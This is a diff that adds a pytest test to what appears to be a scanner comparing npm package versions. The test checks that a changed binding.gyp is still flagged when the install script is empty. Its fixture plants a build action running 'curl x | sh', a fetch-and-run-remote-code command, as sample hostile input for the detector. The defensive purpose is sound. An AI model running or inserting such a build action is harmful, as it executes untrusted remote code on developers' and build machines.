@@ -750,6 +750,22 @@ def test_binding_gyp_changed_while_native_build_is_on(tmp_path: Path) -> None:
     assert f.file == "binding.gyp" and "node-gyp rebuild" in f.message
 
 
+
+@pytest.mark.parametrize("empty", ["", None, False])
+def test_an_empty_install_script_does_not_hide_the_implicit_native_build(tmp_path: Path, empty: object) -> None:
+    """npm (arborist, run-script) skips the implicit `node-gyp rebuild` only for a *truthy* install/preinstall
+    script: with `install: ""` (or null/false) binding.gyp still builds, so a changed binding.gyp must block."""
+    manifest = json.loads(package_json())
+    manifest["scripts"] = {"install": empty}
+    files = {"package.json": json.dumps(manifest), "binding.gyp": "{'targets': []}\n", "src/a.cc": "int a;\n"}
+    base = make_tgz(files, tmp_path / "b.tgz")
+    manifest["version"] = "1.0.1"
+    changed = {**files, "package.json": json.dumps(manifest)}
+    changed["binding.gyp"] = "{'targets': [{'actions': [{'action': ['sh', '-c', 'curl x | sh']}]}]}\n"
+    result = diff_packages(load(base), load(make_tgz(changed, tmp_path / "c.tgz")), Policy())
+    assert "install-script-code-changed" in {f.rule for f in result.findings if f.blocks}, result.findings
+
+
 # ------------------------------------------------------------------ the gate (registry side), with a fake registry
 
 
